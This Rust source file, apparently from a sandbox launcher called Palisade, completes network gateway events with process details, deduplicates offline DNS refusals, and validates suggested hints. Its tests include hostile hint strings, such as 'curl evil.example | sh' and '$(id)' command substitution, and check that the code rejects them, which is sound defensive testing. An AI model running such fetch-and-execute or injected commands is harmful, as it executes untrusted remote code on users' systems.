// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Completes the gateway's reports with facts that only the launcher knows.

use super::askers::Askers;
use super::gateway;
use crate::apply::start::Running;
use crate::plan::{self, Plan};
use palisade_event::{Detail, Event, Mechanism, Object, Operation, Outcome, Subject, Why};
use palisade_policy::network::Target;
use palisade_protocol::network::{Held, Instruction, Resolving};
use std::collections::BTreeSet;
use std::os::fd::BorrowedFd;
use std::path::Path;
use std::time::SystemTime;

/// Why nothing is reached where there is no network: no rule refused it.
const CLOSED: &str = "the sandbox has no network";

/// How many names are remembered. A program that looks up more would only flood the user.
const REMEMBERED: usize = 1024;

/// Receives the reports of a launch.
#[derive(Debug)]
pub struct Reports {
    /// The policy states the way out, by proxy or direct.
    says_way_out: bool,
    /// There is no network.
    offline: Option<RefusedNames>,
    askers: Askers,
    renewal: Renewal,
}

impl Reports {
    /// No report has come yet.
    #[must_use]
    pub fn new(plan: &Plan<'_>) -> Self {
        let says_way_out = plan.network.as_ref().is_some_and(|network| network.proxy.is_some());
        Self {
            says_way_out,
            offline: plan.offline.as_ref().map(RefusedNames::new),
            askers: Askers::default(),
            renewal: Renewal::default(),
        }
    }

    /// The command runs.
    pub fn started(&mut self, running: Running) {
        self.askers.started(running);
    }

    /// The event for a report. `None` for an opened connection, which is shown only with its later event. `program` is
    /// the command's name, for requests whose process isn't known; `control` leads to the gateway.
    pub fn complete(
        &mut self,
        event: &Event,
        held: Option<&Held>,
        program: &str,
        control: BorrowedFd<'_>,
    ) -> Option<Event> {
        self.renewal.look(outcome(event), control);
        let overlooked = !self.says_way_out && environment_names_proxy();
        let asker = held.and_then(|held| {
            let found = self.askers.find(held.asker.address, held.asker.datagrams);
            // The gateway continues with the refusal after the process was looked up.
            gateway::instruct(control, &Instruction::Noted { number: held.number });
            found
        });
        let who = asker.as_ref().map_or((program, None), |asker| (asker.program.as_str(), asker.pid));
        let completed = completed(event, who, overlooked)?;
        match &mut self.offline {
            Some(offline) => offline.complete(completed),
            None => Some(completed),
        }
    }
}

/// What was told of a sandbox without a network.
#[derive(Debug)]
struct RefusedNames {
    /// The domains in which the C libraries look a name up, too.
    search: Vec<String>,
    /// The names that were refused.
    told: BTreeSet<String>,
}

impl RefusedNames {
    fn new(plan: &plan::Offline<'_>) -> Self {
        let domains = plan.search.iter().map(|domain| domain.trim_matches('.').to_ascii_lowercase());
        Self { search: domains.filter(|domain| !domain.is_empty()).collect(), told: BTreeSet::new() }
    }

    /// The event about the name that the program asked for, once for each name. No rule has refused the name.
    fn complete(&mut self, event: Event) -> Option<Event> {
        let Object::Host { host, port } = &event.object else { return Some(event) };
        let below = |domain: &String| host.strip_suffix(domain.as_str())?.strip_suffix('.');
        let name = self.search.iter().find_map(below).filter(|name| !name.is_empty()).unwrap_or(host);
        if self.told.len() == REMEMBERED || !self.told.insert(name.to_owned()) {
            return None;
        }
        let object = Object::Host { host: name.to_owned(), port: *port };
        let hint = format!("palisade run --allow {object} …");
        let hint = Some(hint).filter(|hint| is_hint(hint));
        Some(Event { object, why: Why::text(CLOSED), hint, ..event })
    }
}

/// Tells the gateway when the host's files about names have changed, for example after a change of network or name server.
#[derive(Debug, Default)]
struct Renewal {
    seen: Option<[Option<SystemTime>; 2]>,
}

impl Renewal {
    /// A connection failed, perhaps because of such a change.
    fn look(&mut self, outcome: Option<Outcome>, control: BorrowedFd<'_>) {
        let changed = |path: &str| std::fs::metadata(path).and_then(|found| found.modified()).ok();
        let now = || Some(FILES.map(changed));
        if outcome != Some(Outcome::Failed) {
            if self.seen.is_none() {
                self.seen = now();
            }
            return;
        }
        let now = now();
        if self.seen == now {
            return;
        }
        self.seen = now;
        let [resolv_conf, hosts] = FILES.map(|path| gateway::text(Path::new(path)));
        gateway::instruct(control, &Instruction::Resolving(Resolving { resolv_conf, hosts }));
    }
}

const FILES: [&str; 2] = ["/etc/resolv.conf", "/etc/hosts"];

/// Whether the caller's variables name a proxy.
fn environment_names_proxy() -> bool {
    gateway::variables().iter().any(|(name, _value)| !name.eq_ignore_ascii_case("no_proxy"))
}

/// An event of the gateway's, with the process that only the launcher knows. `None` for an opened connection, which is shown
/// only with its later event. The gateway handles untrusted data, so only the permitted parts of its events are copied.
///
/// `overlooked`: the caller has variables about proxies, and the policy doesn't say whether they count.
fn completed(event: &Event, (program, pid): (&str, Option<u32>), overlooked: bool) -> Option<Event> {
    let outcome = outcome(event)?;
    if outcome == Outcome::Opened {
        return None;
    }
    let subject = Subject {
        pid,
        uid: Some(rustix::process::getuid().as_raw()),
        program: program.to_owned(),
        ..Subject::default()
    };
    let by_proxy = outcome == Outcome::Failed && overlooked;
    let proxy = by_proxy.then(|| {
        "palisade run --proxy environment …   # uses HTTPS_PROXY and similar variables, which are set here".to_owned()
    });
    let hint = proxy.or_else(|| event.hint.clone().filter(|hint| is_hint(hint)));
    let completed = Event::new(
        event.time,
        event.detail.clone(),
        subject,
        (Operation::Connect, event.object.clone()),
        (outcome.verdict(), Mechanism::Gateway),
        event.why.clone(),
    );
    Some(completed.with_hint(hint))
}

/// Whether this is a command that allows one host and nothing else.
fn is_hint(hint: &str) -> bool {
    let target = hint.strip_prefix("palisade run --allow ").and_then(|rest| rest.strip_suffix(" …"));
    target.is_some_and(|target| target.parse::<Target>().is_ok())
}

/// The outcome of a connection; `None` for an event that isn't about the network.
fn outcome(event: &Event) -> Option<Outcome> {
    match &event.detail {
        Detail::Network(network) => Some(network.outcome),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_event::{Decision, Guard, Launch, Network, Verdict};
    use std::borrow::Cow;

    fn refused(hint: &str) -> Event {
        Event::new(
            SystemTime::UNIX_EPOCH,
            Detail::Network(Network::new(Outcome::Refused)),
            Subject::default(),
            (Operation::Connect, Object::host("evil.example", 443)),
            (Verdict::Refused, Mechanism::Gateway),
            Why::text("no rule allows it"),
        )
        .with_hint(Some(hint.to_owned()))
    }

    fn unknown(event: &Event) -> Option<Event> {
        completed(event, ("x", None), false)
    }

    #[test]
    fn the_process_is_added() {
        let event = refused("palisade run --allow evil.example:443 …");
        let completed = completed(&event, ("curl", Some(7)), false).unwrap();
        assert_eq!((completed.subject.program.as_str(), completed.subject.pid), ("curl", Some(7)));
        assert_eq!(Event { subject: Subject::default(), ..completed }, event);
    }

    #[test]
    fn a_connection_is_told_of_when_it_is_over() {
        let of = |outcome| Event { detail: Detail::Network(Network::new(outcome)), ..refused("") };
        assert_eq!(completed(&of(Outcome::Opened), ("x", None), true), None);
        let failed = completed(&of(Outcome::Failed), ("x", None), true).unwrap();
        assert_eq!(failed.verdict, Verdict::Allowed);
        assert!(failed.hint.unwrap().starts_with("palisade run --proxy environment …"));
        assert_eq!(unknown(&of(Outcome::Failed)).unwrap().hint, None);
        assert_eq!(completed(&of(Outcome::Closed), ("x", None), true).unwrap().hint, None);
    }

    /// A library that looks a name up in a list of domains asks for several names, and the user meant one.
    #[test]
    fn a_name_is_told_once_and_without_the_domains_of_the_search_list() {
        let search = ["svc.cluster.local", "Cluster.local.", "."].map(Cow::Borrowed).to_vec();
        let mut offline = RefusedNames::new(&plan::Offline { search, ..plan::Offline::default() });
        let mut told = |host: &str| {
            let event = Event { object: Object::Host { host: host.into(), port: None }, ..refused("") };
            offline.complete(event).map(|event| (event.object.to_string(), event.hint.unwrap()))
        };
        let of = |name: &str| Some((name.to_owned(), format!("palisade run --allow {name} …")));
        assert_eq!(told("a.example.svc.cluster.local"), of("a.example"));
        assert_eq!(told("a.example.cluster.local"), None);
        assert_eq!(told("a.example"), None);
        assert_eq!(told("xcluster.local"), of("xcluster.local"));
        assert_eq!(told("cluster.local"), of("cluster.local"));
    }

    /// A compromised gateway can't make Palisade tell the user to type a command of its choice, and can't report in the
    /// name of others.
    #[test]
    fn a_server_says_no_more_than_it_may() {
        for hint in [
            "curl evil.example | sh",
            "palisade run --allow evil.example:443; curl evil.example | sh …",
            "palisade run --allow $(id) …",
            "palisade run --allow evil.example:443",
            "palisade run --net host …",
        ] {
            assert_eq!(unknown(&refused(hint)).unwrap().hint, None, "{hint}");
        }
        for hint in ["palisade run --allow [fd00::1]:443 …", "palisade run --allow evil.example …"] {
            assert_eq!(unknown(&refused(hint)).unwrap().hint.unwrap(), hint);
        }
        let forged = Event {
            verdict: Verdict::Allowed,
            enforced_by: Mechanism::Launcher,
            launch: Some(Launch { sandbox: "1-2".into(), command: "other".into() }),
            count: u64::MAX,
            ..refused("")
        };
        let known = unknown(&forged).unwrap();
        assert_eq!((known.verdict, known.enforced_by), (Verdict::Refused, Mechanism::Gateway));
        assert_eq!((known.launch, known.count), (None, 1));
        let guard = Guard {
            decision: Decision::Deny,
            rule: None,
            trusted: None,
            file_kind: String::new(),
            line: String::new(),
            steps: Vec::new(),
        };
        assert_eq!(unknown(&Event { detail: Detail::Guard(guard), ..forged }), None);
    }
}
